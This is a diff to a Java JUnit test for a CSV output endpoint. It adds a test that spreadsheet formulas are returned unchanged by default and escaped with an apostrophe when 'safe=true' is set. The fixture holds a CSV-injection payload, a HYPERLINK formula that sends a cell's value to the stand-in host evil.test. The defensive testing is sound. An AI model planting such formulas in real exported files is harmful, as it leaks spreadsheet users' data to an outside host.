@@ -10,6 +10,8 @@ import java.net.http.HttpRequest.BodyPublishers;
 import java.util.concurrent.CountDownLatch;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.extension.RegisterExtension;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
 
 /// The CSV that comes back.
 class OutputCsvTest {
@@ -59,11 +61,27 @@ class OutputCsvTest {
     }
 
     @Test
-    void refusesAPartialThatIsNeitherTrueNorFalse() {
-        var answer = caller.get(caller.submit(CSV) + "/output.csv?partial=yes");
+    void givesFormulasBackAsTheyCameUnlessASpreadsheetIsToReadThem() {
+        var path = caller.submit(HEADER
+                + "-5,\"=HYPERLINK(\"\"http://evil.test/?\"\"&A1,\"\"x\"\")\",http://a.test/1.jpg\r\n"
+                + "@SUM(1),Chair,http://a.test/2.jpg\r\n");
+        caller.awaitEnd(path);
+
+        assertThat(caller.get(path + "/output.csv").text())
+                .contains("\r\n-5,\"=HYPERLINK(\"\"http://evil.test", "\r\n@SUM(1),Chair,")
+                .isEqualTo(caller.get(path + "/output.csv?safe=false").text());
+        assertThat(caller.get(path + "/output.csv?safe=true").text())
+                .startsWith("Serial Number,")
+                .contains("\r\n-5,\"'=HYPERLINK(\"\"http://evil.test", "\r\n'@SUM(1),Chair,http://a.test/2.jpg,http");
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"partial", "safe"})
+    void refusesWhatIsNeitherTrueNorFalse(String field) {
+        var answer = caller.get(caller.submit(CSV) + "/output.csv?" + field + "=yes");
 
         assertThat(answer.outcome()).isEqualTo("422 invalid_option");
-        assertThat(answer.at("/field")).isEqualTo("partial");
+        assertThat(answer.at("/field")).isEqualTo(field);
     }
 
     @Test
